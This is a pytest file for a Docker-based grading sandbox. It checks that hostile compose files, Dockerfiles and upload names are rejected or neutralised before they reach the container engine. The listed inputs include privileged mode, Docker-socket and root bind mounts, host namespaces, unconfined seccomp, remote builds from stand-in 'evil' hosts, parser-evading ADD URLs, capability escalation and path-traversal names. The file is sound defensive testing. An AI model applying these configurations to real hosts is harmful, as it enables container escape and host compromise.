"""Hostile compose files and submissions, each otherwise the correct answer, graded in full
mode: every one is rejected (or neutralised) before anything reaches the engine, and no
host file's content appears in anything the grading shows."""

from __future__ import annotations

import logging
import types
from pathlib import Path

import pytest

from exercises.grading import grader, sandbox
from exercises.grading.capabilities import CAPABILITIES, GRANTABLE
from exercises.grading.dockerfile import dockerfile_parse, external_sources
from exercises.grading.grader import grade_directory
from exercises.grading.policy_images import engine_sources_problem
from exercises.grading.types import RuntimeObservations, SandboxLimits, Status

from .figures import FIGURES
from .support import (
    DC,
    DF,
    REFERENCE,
    app_lines,
    assert_well_formed,
    everything_shown,
    replaced,
    top_level,
    unique,
    write_submission,
)

pytestmark = pytest.mark.figure("hostile")
DB_IMAGE = "image: postgres:14-alpine"
APP_IMAGE = "image: ${REGISTRY_URL}/myapp:${VERSION}-${BUILD_NUMBER}"
FIRST_FROM = "FROM node:18-alpine AS builder"
ETC = "/etc/drydock-canary-host"
OUTSIDE = "../{outside}"  # the canary folder next to the submission

# (case id, the rule it must be rejected under, compose edit). `{etc}` and `{outside}` are
# filled in with the host canary's paths.
REJECTED = [
    ("privileged", "privileged", lambda c: app_lines(c, "privileged: true")),
    ("bind-docker-sock", "bind-mount",
     lambda c: app_lines(c, "volumes: ['/var/run/docker.sock:/var/run/docker.sock']")),
    ("bind-root", "bind-mount", lambda c: app_lines(c, "volumes: ['/:/host']")),
    ("bind-etc", "bind-mount",
     lambda c: app_lines(c, "volumes:\n  - type: bind\n    source: /etc\n    target: /host-etc")),
    ("bind-parent-parent", "bind-mount", lambda c: app_lines(c, "volumes: ['../..:/up']")),
    ("network-host", "host-namespace", lambda c: app_lines(c, "network_mode: host")),
    ("pid-host", "host-namespace", lambda c: app_lines(c, "pid: host")),
    ("ipc-host", "host-namespace", lambda c: app_lines(c, "ipc: host")),
    ("devices", "devices", lambda c: app_lines(c, "devices: ['/dev/mem:/dev/mem']")),
    ("sysctls", "sysctls", lambda c: app_lines(c, "sysctls:\n  net.ipv4.ip_forward: 1")),
    ("seccomp-unconfined", "security-opt",
     lambda c: app_lines(c, "security_opt: ['seccomp:unconfined']")),
    ("apparmor-unconfined", "security-opt",
     lambda c: app_lines(c, "security_opt: ['apparmor=unconfined']")),
    ("env-file-host", "path", lambda c: app_lines(c, f"env_file: {ETC}")),
    ("env-file-outside", "path", lambda c: app_lines(c, f"env_file: {OUTSIDE}/canary.env")),
    ("secret-file-host", "path", lambda c: replaced(c, "./secrets/app_secret.txt", ETC)),
    ("secret-file-outside", "path",
     lambda c: replaced(c, "./secrets/app_secret.txt", f"{OUTSIDE}/secret.txt")),
    ("build-context-outside", "path",
     lambda c: app_lines(c, f"build:\n  context: {OUTSIDE}\n  dockerfile: Dockerfile")),
    ("build-context-url", "remote",
     lambda c: app_lines(c, "build: https://github.com/evil/payload.git#main")),
    ("extends-outside", "path",
     lambda c: app_lines(c, f"extends:\n  file: {OUTSIDE}/compose.yaml\n  service: base")),
    ("extends-url", "remote",
     lambda c: app_lines(c, "extends:\n  file: https://evil.example/compose.yaml\n  service: base")),
    ("include-outside", "path", lambda c: top_level(c, f"include:\n  - {OUTSIDE}/compose.yaml")),
    ("include-url", "remote",
     lambda c: top_level(c, "include:\n  - oci://registry.example.com/evil:latest")),
    ("external-config", "external",
     lambda c: top_level(c, "configs:\n  conf:\n    external: true\n    name: /etc/passwd")),
    # Images: a registry on the host, another job's image (by tag, by ID), a name the engine
    # would answer with a 400 (which used to be retried as Drydock's fault).
    ("image-loopback-registry", "image", lambda c: replaced(c, DB_IMAGE, "image: 127.0.0.1:5000/pg:14")),
    ("image-localhost-registry", "image", lambda c: replaced(c, DB_IMAGE, "image: localhost/pg:14")),
    ("image-ipv6-registry", "image", lambda c: replaced(c, DB_IMAGE, "image: '[::1]:5000/pg:14'")),
    ("image-host-port", "image", lambda c: replaced(c, DB_IMAGE, "image: registry:5000/pg:14")),
    ("image-other-registry", "image", lambda c: replaced(c, DB_IMAGE, "image: ghcr.io/acme/pg:14")),
    ("image-job-namespace", "image",
     lambda c: replaced(c, DB_IMAGE, "image: drydock/job-0123456789ab:app")),
    ("image-untagged-job-app", "image",
     lambda c: replaced(c, DB_IMAGE, "image: drydock-0123456789ab-app:untagged")),
    ("image-by-id", "image", lambda c: replaced(c, DB_IMAGE, "image: 'sha256:" + "a" * 64 + "'")),
    ("image-by-short-id", "image", lambda c: replaced(c, DB_IMAGE, "image: '3f2a9c'")),
    ("image-malformed", "image", lambda c: replaced(c, DB_IMAGE, "image: Postgres:14")),
    ("app-tag-capitals", "image", lambda c: replaced(c, APP_IMAGE, "image: MyApp:1.0.0")),
    ("app-tag-empty-tag", "image", lambda c: replaced(c, APP_IMAGE, "image: 'myapp:'")),
    ("app-tag-job-namespace", "image", lambda c: replaced(c, APP_IMAGE, "image: drydock/job-x:app")),
]  # fmt: skip


@pytest.fixture
def no_engine(monkeypatch):
    """Fails the test if the grader hands anything to the runtime (the engine's side)."""
    calls: list[object] = []

    def refuse(plan, limits, progress, engine=None):
        calls.append(plan)
        raise AssertionError("a hostile submission reached the runtime")

    monkeypatch.setattr(sandbox, "observe", refuse)
    return calls


@pytest.fixture
def submission_dir(host_canary):
    outside: Path = host_canary["outside"]

    def make(files: dict[str, str], symlinks: dict[str, str] | None = None) -> Path:
        filled = {
            name: text.replace("../{outside}", f"../{outside.name}") for name, text in files.items()
        }
        return write_submission(outside.parent / unique("submission-"), filled, symlinks)

    return make


def assert_no_host_content(result, marker: str, caplog) -> None:
    shown = everything_shown(result)
    assert marker not in shown, "host file content appears in the grading output"
    assert marker not in caplog.text, "host file content appears in the grader's logs"


@pytest.mark.parametrize(("case", "rule", "edit"), REJECTED, ids=[c[0] for c in REJECTED])
def test_hostile_compose_is_rejected_before_the_engine(
    case, rule, edit, submission_dir, no_engine, host_canary, caplog
):
    caplog.set_level(logging.DEBUG)
    directory = submission_dir({**REFERENCE, DC: edit(REFERENCE[DC])})

    result = grade_directory(directory)

    assert_well_formed(result)
    assert result.status == Status.REJECTED, (result.status, result.error, result.policy)
    assert rule in [v.rule for v in result.policy], result.policy
    assert no_engine == [] and result.checks == [] and result.score == 0
    assert_no_host_content(result, host_canary["marker"], caplog)
    FIGURES.line(f"hostile {case}: rejected before the engine ({result.policy[0].detail})")


@pytest.mark.parametrize("target", ["etc", "outside"])
def test_symlink_out_of_the_submission_is_rejected(
    target, submission_dir, no_engine, host_canary, caplog
):
    caplog.set_level(logging.DEBUG)
    pointed = host_canary["etc"] if target == "etc" else host_canary["outside"] / "canary.env"
    if pointed is None:
        pytest.fail("the host canary could not be written to /etc")
    compose = app_lines(REFERENCE[DC], "env_file: app.env")
    directory = submission_dir({**REFERENCE, DC: compose}, symlinks={"app.env": str(pointed)})

    result = grade_directory(directory)

    assert_well_formed(result)
    assert result.status == Status.REJECTED and no_engine == []
    assert "symlink" in [v.rule for v in result.policy], result.policy
    assert_no_host_content(result, host_canary["marker"], caplog)
    FIGURES.line(f"hostile symlink-to-{target}: rejected before the engine "
                 f"({result.policy[0].detail})")  # fmt: skip


def test_volume_device_on_the_host_is_redirected_into_the_sandbox(
    submission_dir, monkeypatch, host_canary
):
    plans = []

    def record(plan, limits, progress, engine=None):
        plans.append(plan)
        return RuntimeObservations(build_error="not run in this test")

    monkeypatch.setattr(sandbox, "observe", record)
    compose = replaced(REFERENCE[DC], "device: '/mnt/data/postgres'", "device: '/etc'")

    result = grade_directory(submission_dir({**REFERENCE, DC: compose}))

    assert_well_formed(result)
    device = plans[0].volumes["pgdata"]["driver_opts"]["device"]
    # the job spec names a project-relative directory (a job volume holds its copy), never /etc
    assert not device.startswith("/") and Path(device).name == "pgdata", device
    assert any("bind device /etc is redirected" in e for c in result.checks for e in c.evidence)
    FIGURES.line(f"hostile volume-device-etc: neutralised (device redirected to the job "
                 f"volume of ./{device})")  # fmt: skip


# What an external network or volume could name outside the job: the engine's own networks,
# the host's namespace, another job's resources, a path.
OUTSIDE_NAMES = ["bridge", "host", "none", "drydock-0123456789ab_default",
                 "drydock-0123456789ab_pgdata", "/", "../../etc"]  # fmt: skip


@pytest.mark.parametrize("name", OUTSIDE_NAMES)
def test_external_networks_and_volumes_become_the_jobs_own(submission_dir, monkeypatch, name):
    plans = []

    def record(plan, limits, progress, engine=None):
        plans.append(plan)
        return RuntimeObservations(build_error="not run in this test")

    monkeypatch.setattr(sandbox, "observe", record)
    declared = REFERENCE[DC][REFERENCE[DC].index("  pgdata:\n    driver") :].split("\n\n")[0]
    compose = replaced(
        REFERENCE[DC], declared, f"  pgdata:\n    external: true\n    name: '{name}'"
    )  # fmt: skip
    compose = top_level(
        app_lines(compose, "networks: [default, prod]"),
        f"networks:\n  prod:\n    external: true\n    name: '{name}'",
    )

    result = grade_directory(submission_dir({**REFERENCE, DC: compose}))

    assert_well_formed(result)
    assert result.status != Status.REJECTED, result.policy
    (plan,) = plans
    project = f"drydock-{plan.job_id}"
    assert plan.volumes["pgdata"]["name"] == f"{project}_pgdata"
    assert "external" not in plan.volumes["pgdata"]
    assert {n: spec["name"] for n, spec in plan.networks.items() if n == "prod"} == {
        "prod": f"{project}_prod"
    }
    assert all(not spec.get("external") for spec in plan.networks.values())
    FIGURES.line(f"hostile external-{name}: neutralised (the job's own network and volume)")


def test_enormous_memory_limit_is_clamped_on_the_engine(
    submission_dir, private_engine, monkeypatch
):
    limits = SandboxLimits(build_timeout_s=120, run_timeout_s=60)
    plans = []
    real_observe = sandbox.observe

    def spy(plan, limits_, progress, engine=None):
        plans.append(types.SimpleNamespace(app=dict(plan.services["app"])))
        return real_observe(plan, limits_, progress, engine)

    monkeypatch.setattr(sandbox, "observe", spy)
    compose = replaced(REFERENCE[DC], "memory: 512M", "memory: 1000G")

    result = grade_directory(submission_dir({**REFERENCE, DC: compose}), limits=limits)

    assert_well_formed(result)
    planned = plans[0].app["deploy"]["resources"]["limits"]["memory"]
    assert int(planned) == limits.memory_bytes  # clamped before the engine saw it
    evidence = "\n".join(e for c in result.checks for e in c.evidence)
    assert "memory limit 1024000 MiB is clamped to the sandbox maximum 1024 MiB" in evidence
    assert "runtime: container app runs with memory 1024 MiB" in evidence, evidence
    assert result.status == Status.PASSED, [c.summary for c in result.checks if not c.passed]
    FIGURES.line(
        "hostile memory-1000G: neutralised (clamped to 1024 MiB; the engine ran the app "
        "with HostConfig.Memory = 1 GiB)"
    )


def test_uploaded_names_cannot_leave_the_scratch_directory(no_engine, host_canary):
    """The web path (`grade_files`): a name that climbs out is refused before any write."""
    escape = f"../../../../../../{host_canary['outside'].name}/planted.txt"
    for name in (escape, "/etc/cron.d/drydock", "secrets/../../x", "a\\..\\..\\b"):
        result = grader.grade_files({**{k: v.encode() for k, v in REFERENCE.items()}, name: b"x"})
        assert_well_formed(result)
        assert result.status == Status.ERROR and "not a valid file name" in result.error
    assert not (host_canary["outside"] / "planted.txt").exists()
    assert no_engine == []
    FIGURES.line("hostile upload-names: ../, absolute and backslash names refused before any write")


# Every way a Dockerfile names an image: FROM (also through ARGs and compose build args),
# COPY --from, RUN --mount=from=, ONBUILD, # syntax=. `{ref}` is the hostile reference.
DOCKERFILE_IMAGES = [
    ("from", FIRST_FROM, "FROM {ref} AS builder", None),
    ("from-arg", FIRST_FROM, "ARG BASE={ref}\nFROM ${{BASE}} AS builder", None),
    ("from-build-arg", FIRST_FROM, "ARG BASE=node:18-alpine\nFROM $BASE AS builder", "{ref}"),
    ("copy-from", "COPY . .", "COPY --from={ref} /etc/passwd /x\nCOPY . .", None),
    ("run-mount-from", "RUN npm ci", "RUN --mount=type=bind,from={ref},target=/m npm ci", None),
    ("onbuild-copy-from", "RUN npm ci", "RUN npm ci\nONBUILD COPY --from={ref} /x /x", None),
    ("syntax-directive", "# Production Dockerfile", "# syntax={ref}", None),
]
HOSTILE_REFS = ["127.0.0.1:5000/x:1", "[::1]:5000/x:1", "drydock/job-0123456789ab:app",
                "sha256:" + "c" * 64]  # fmt: skip


@pytest.mark.parametrize("ref", HOSTILE_REFS)
@pytest.mark.parametrize(
    ("case", "old", "new", "build_arg"), DOCKERFILE_IMAGES, ids=[c[0] for c in DOCKERFILE_IMAGES]
)
def test_hostile_dockerfile_image_is_rejected_before_the_engine(
    case, old, new, build_arg, ref, submission_dir, no_engine
):
    compose = REFERENCE[DC]
    if build_arg:
        compose = app_lines(compose, f"build:\n  context: .\n  args:\n    BASE: '{ref}'")
    dockerfile = replaced(REFERENCE[DF], old, new.format(ref=ref))

    result = grade_directory(submission_dir({**REFERENCE, DF: dockerfile, DC: compose}))

    assert_well_formed(result)
    assert result.status == Status.REJECTED, (result.status, result.error, result.policy)
    details = [v.detail for v in result.policy if v.rule == "image"]
    assert details and details[0].startswith("Dockerfile line") and ref in details[0]
    assert no_engine == []
    FIGURES.line(f"hostile dockerfile-{case} {ref[:24]}: rejected before the engine")


# Each spelling of `ADD <url>`, including the parser disagreements that once let one through
# (a `<<EOF` token the builder does not treat as a heredoc, the backtick escape directive, a
# form feed after a continuation backslash). The runtime makes this check before any build.
URL = "http://127.0.0.1:8000/metrics"
REMOTE_ADDS = [
    ("plain", f"ADD {URL} /m"),
    ("lower-case", f"add {URL} /m"),
    ("json", f'ADD ["{URL}", "/m"]'),
    ("quoted", f'ADD "{URL}" /m'),
    ("split-quotes", 'ADD h"tt"p://127.0.0.1:8000/x /m'),
    ("flags", f"ADD --chown=1:1 --chmod=644 {URL} /m"),
    ("arg", f"ARG U={URL}\nADD $U /m"),
    ("env", f"ENV U={URL}\nADD ${{U}} /m"),
    ("onbuild", f"ONBUILD ADD {URL} /m"),
    ("git", "ADD git@github.com:evil/x.git /x"),
    ("git-scheme", "ADD git://127.0.0.1/x /x"),
    ("after-heredoc-token", f"RUN cat <<EOF\nADD {URL} /m\nRUN true"),
    ("after-form-feed", f"RUN echo \\\f\nADD {URL} /m"),
    ("after-cr", f"RUN echo \\\r\r\nADD {URL} /m"),
    ("backslash-under-backtick-escape", f"RUN echo \\\nADD {URL} /m"),
    ("tab-separated", f"ADD\t{URL}\t/m"),
    ("continued", f"ADD \\\n  {URL} \\\n  /m"),
]


@pytest.mark.parametrize(("case", "add"), REMOTE_ADDS, ids=[c[0] for c in REMOTE_ADDS])
@pytest.mark.parametrize("escape", ["", "# escape=`\n"])
def test_every_remote_add_is_refused_before_a_build(case, add, escape):
    add = add.replace("\\\n", "`\n") if escape and case == "continued" else add
    dockerfile = f"{escape}FROM node:18-alpine AS builder\nWORKDIR /app\n{add}\nUSER node\n"
    parsed = dockerfile_parse(dockerfile)

    _, urls = external_sources(parsed, {})
    problem = engine_sources_problem(parsed, {}, standins=["node:18-alpine"])

    assert urls, f"{case}: the ADD was not found"
    assert problem is not None and "ADD fetches" in problem, problem
    FIGURES.line(f"hostile add-{case}{'-backtick' if escape else ''}: refused before the build")


def test_confinement_cannot_be_switched_off(submission_dir, monkeypatch):
    plans = []

    def record(plan, *args):
        plans.append(plan)
        return RuntimeObservations(build_error="not run in this test")

    monkeypatch.setattr(grader, "_observe", record)
    beyond = sorted(CAPABILITIES - GRANTABLE)  # ALL, NET_RAW, SYS_ADMIN, DAC_READ_SEARCH...
    spelled = [
        f"CAP_{c}" if i % 3 == 1 else c.lower() if i % 3 == 2 else c for i, c in enumerate(beyond)
    ]
    compose = app_lines(
        REFERENCE[DC],
        "security_opt: ['no-new-privileges=false', 'no-new-privileges:false']\n"
        f"cap_add: [{', '.join(spelled)}]",
    )

    result = grade_directory(submission_dir({**REFERENCE, DC: compose}))

    assert_well_formed(result)
    assert result.status == Status.FAILED  # graded (the security check fails), not granted
    for name, service in plans[0].services.items():
        assert service["security_opt"] == ["no-new-privileges"], name
        assert "NET_RAW" in service["cap_drop"], name
        assert not set(service.get("cap_add", [])) - GRANTABLE, (name, service.get("cap_add"))
    FIGURES.line(
        f"hostile no-new-privileges-false and cap_add of {len(beyond)} capabilities beyond "
        "Docker's defaults: neutralised (forced on, none granted, NET_RAW dropped)"
    )
